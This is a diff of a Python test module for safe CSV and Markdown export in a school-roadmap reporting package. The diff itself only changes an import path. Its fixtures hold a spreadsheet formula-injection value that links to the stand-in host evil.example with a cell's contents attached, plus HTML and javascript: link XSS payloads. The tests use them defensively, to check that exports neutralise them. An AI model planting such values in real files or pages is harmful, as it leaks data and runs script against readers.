@@ -1,4 +1,4 @@
-"""Exports that are data, not code (sezp_roadmap/reporting/safe_export.py, reporting/figures.py).
+"""Exports that are data, not code (sezp_roadmap/safe_export.py, reporting/figures.py).
 
 A school name, a survey topic or an SQR domain can hold a spreadsheet formula or
 markup. The priority-levers CSV neutralises every text cell a spreadsheet would
@@ -20,7 +20,7 @@ from sezp_roadmap.levers import Finding, Lever, LeverEvidence
 from sezp_roadmap.reporting import figures
 from sezp_roadmap.reporting.formatting import wrapped
 from sezp_roadmap.reporting.priority_levers import export_csv, export_markdown, finding_sentence
-from sezp_roadmap.reporting.safe_export import csv_cell, markdown_text, safe_writer
+from sezp_roadmap.safe_export import csv_cell, markdown_text, safe_writer
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 MARKUP_NAME = "<img src=x onerror=alert(1)> [click](javascript:alert(1)) **Bold**"
